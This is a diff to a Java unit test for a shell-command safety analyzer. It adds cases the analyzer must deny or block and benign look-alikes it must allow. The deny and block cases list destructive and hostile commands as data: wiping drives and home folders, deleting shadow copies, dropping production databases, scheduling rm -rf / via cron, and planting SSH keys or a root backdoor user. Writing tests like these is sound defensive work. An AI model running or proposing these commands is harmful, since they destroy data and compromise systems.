@@ -90,7 +90,32 @@ class UnseenCommandsTest {
         "vault secrets disable secret/", "vault kv destroy -versions=1,2 secret/app", "curl -o /etc/hosts http://x.example/hosts",
         "curl -fsSL http://x.example/k -o ~/.ssh/authorized_keys", "sudo apt-get remove --purge -y libc6", "sudo yum remove -y kernel",
         "sudo dpkg --force-all -P coreutils", "for t in sessions cache; do psql -c \"TRUNCATE $t\"; done",
-        "sudo rm -rf /root", "sudo rm -rf /root/*", "rm /root/.ssh/authorized_keys"})
+        "sudo rm -rf /root", "sudo rm -rf /root/*", "rm /root/.ssh/authorized_keys",
+        // round 5: Windows / PowerShell
+        "Remove-Item -Recurse -Force C:\\", "rd /s /q C:\\", "del /f /s /q C:\\*", "rm -r -fo C:\\Users",
+        "Remove-Item -Recurse -Force $env:USERPROFILE", "format C: /q /y", "Format-Volume -DriveLetter C -Force",
+        "Clear-Disk -Number 0 -RemoveData -Confirm:$false", "vssadmin delete shadows /all /quiet", "wmic shadowcopy delete",
+        "wbadmin delete catalog -quiet", "bcdedit /set {default} recoveryenabled No", "Stop-Computer -Force",
+        "powershell -c \"Remove-Item -Recurse -Force C:\\\"", "cmd /c \"rd /s /q C:\\\"",
+        // round 6: SQL disguises
+        "psql -c \"DELETE FROM users WHERE id > 0\"", "psql -c \"DELETE FROM users WHERE id IS NOT NULL\"",
+        "psql -c \"DELETE FROM users WHERE email LIKE '%'\"", "echo \"DROP DATABASE prod;\" > drop.sql && mysql < drop.sql",
+        "duckdb prod.db \"DROP TABLE events\"", "bq query --nouse_legacy_sql 'DELETE FROM ds.events WHERE true'",
+        "snowsql -q \"DROP DATABASE analytics\"", "cockroach sql -e \"DROP DATABASE bank CASCADE\"",
+        "mysql -e \"SET FOREIGN_KEY_CHECKS=0; DROP TABLE orders;\"",
+        // round 7
+        "git push origin --delete $(git branch -r | sed 's/origin\\///')", "git push origin $(git tag -l) --delete",
+        // round 8: listings and library calls
+        "cd /; rm -rf $(ls)", "rm -rf $(ls /)", "rm -rf $(ls ~)", "python -c \"__import__('os').system('rm -rf /')\"",
+        "node -e \"require('child_process').spawnSync('rm',['-rf','/'])\"", "ruby -e 'system(\"rm\", \"-rf\", \"/\")'",
+        "lua -e 'os.execute(\"rm -rf /\")'",
+        // round 9: a dry-run flag that does not make a dry run
+        "kubectl delete ns prod --dry-run=none", "aws s3 rm s3://b/logs/ --recursive --dry-run=false",
+        // round 10: deferred execution
+        "crontab /dev/null", "echo '* * * * * rm -rf /' | crontab -", "echo '@reboot rm -rf ~' | crontab -",
+        "at now <<< 'rm -rf /'", "echo 'rm -rf /' | at now + 1 minute",
+        // round 11: pattern removal with globs
+        "rm -rf ${HOME%/*}", "f=/usr/lib/x; rm -rf ${f%/*}"})
     void clearDestructionIsDenied(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertEquals("deny", assessment.verdict(), () -> command + " -> " + assessment);
@@ -135,7 +160,14 @@ class UnseenCommandsTest {
         "mount -o remount,ro /", "umount -l /", "fsck -y /dev/sda1", "tune2fs -O ^has_journal /dev/sda1", "lvreduce -L 1G /dev/vg/root",
         "ip link set eth0 down", "ifconfig eth0 down", "ip route flush all", "nmcli networking off", "wget -O /usr/bin/ls http://x.example/ls",
         "echo 'root:x' | chpasswd", "usermod -aG sudo attacker", "useradd -o -u 0 backdoor", "rm -rf /data", "rm -rf /mnt/backup/*",
-        "rm -rf /root/.ssh", "docker ps -aq | grep -v keep | xargs docker rm -f"})
+        "rm -rf /root/.ssh", "docker ps -aq | grep -v keep | xargs docker rm -f", "reg delete HKLM\\SYSTEM /f",
+        // round 7: outside the project, empty variables (rm -rf "$STEAMROOT/"*), home folders, git bulk deletes
+        "rm -rf ..", "rm -rf ../..", "rm -rf ../*", "rm -rf \"$STEAMROOT/\"*", "rm -rf $DIR/", "rm -rf \"${DIR}\"/*",
+        "find ~/Documents -delete", "rsync -a --delete ./empty/ ~/Documents/", "git restore --source=HEAD --staged --worktree .",
+        "git tag -l | xargs git tag -d",
+        "kubectl apply --prune -l app=web -f k8s/", "gsutil -m rm gs://b/logs/**", "az storage blob delete-batch -s container --account-name a",
+        "aws rds modify-db-instance --db-instance-identifier prod --no-deletion-protection --apply-immediately",
+        "podman pod rm -af"})
     void riskyCommandsAreBlocked(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertTrue(assessment.blocked(), () -> command + " -> " + assessment);
@@ -211,7 +243,25 @@ class UnseenCommandsTest {
         "curl -fsSLo /usr/share/keyrings/docker.gpg https://download.docker.com/linux/ubuntu/gpg",
         "sudo rm -rf /root/.cache", "docker ps --format '{{.Names}}' | grep test- | xargs docker rm -f",
         "kubectl delete pod -l app=web --field-selector=status.phase==Succeeded", "while read -r f; do rm -f \"$f\"; done < files.txt",
-        "rm -rf ~/Library/Developer/Xcode/DerivedData", "sudo rm -rf /var/cache/apt/archives/*.deb", "podman rmi --prune"})
+        "rm -rf ~/Library/Developer/Xcode/DerivedData", "sudo rm -rf /var/cache/apt/archives/*.deb", "podman rmi --prune",
+        "Remove-Item -Recurse -Force .\\build", "rd /s /q build", "del /q *.tmp", "Get-ChildItem", "dir C:\\", "vssadmin list shadows",
+        "reg query HKLM\\SYSTEM", "powershell -c \"Remove-Item -Recurse -Force .\\build\"", "pwsh -c Get-Process",
+        "psql -c \"DELETE FROM users WHERE deleted_at IS NOT NULL\"", "psql -c \"DELETE FROM jobs WHERE priority > 0\"",
+        "psql -c \"DELETE FROM users WHERE email LIKE '%@test.com'\"", "psql -c \"SELECT * FROM users WHERE name = 'DROP TABLE users'\"",
+        "psql -c \"INSERT INTO log VALUES ('DELETE FROM users')\"", "mysql app < backup.sql", "sqlite3 app.db \".tables\"",
+        "rm -rf ../build", "rm -rf \"$DIR\"", "DIR=./out; rm -rf \"$DIR\"/*", "find ~/.cache -delete", "git restore --worktree src/app.py",
+        "git tag -d v1.0.0-rc1", "rsync -a ./dotfiles/.config/ ~/.config/",
+        "rm -rf $(ls -d build*)", "rm -f $(ls *.tmp)", "cat $(ls /etc/*.conf)", "node -e \"require('child_process').spawnSync('ls',['-la','/'])\"",
+        "python3 -c \"import subprocess; subprocess.run('ls -la', shell=True, cwd='/')\"", "ruby -e 'system(\"echo\", \"hi\")'",
+        // round 9: dry runs only report
+        "aws s3 rm s3://b/logs/ --recursive --dryrun", "kubectl delete ns prod --dry-run=server", "helm uninstall web --dry-run",
+        "Remove-Item -Recurse -Force C:\\ -WhatIf", "gsutil rm gs://b/file.txt", "kubectl apply -f k8s/",
+        "(crontab -l; echo '0 2 * * * /usr/local/bin/backup.sh') | crontab -", "echo 'make build' | at midnight", "podman rm web",
+        "sudo usermod -aG docker $USER", "gh pr merge 12 --squash --delete-branch", "git fetch --all --prune", "terraform apply tfplan",
+        "sed -i 's/foo/bar/g' $(grep -rl foo src/)", "psql -U postgres -d app < migrations/001.sql",
+        "git add -A && git commit -m \"fix: remove dead code (rm -rf legacy)\"", "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N \"\"",
+        "rm -rf \"${HOME%/}/build\"", "f=/tmp/build/out.tar.gz; rm -f \"${f%.*}\"", "p=/srv/app/releases/1; rm -rf \"${p%/*}/old\"",
+        "rm -rf \"$(pwd)\"/*", "docker run --rm -v $(pwd):/src alpine rm -rf /src/*"})
     void benignLookAlikesAreAllowed(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertEquals("allow", assessment.verdict(), () -> command + " -> " + assessment);
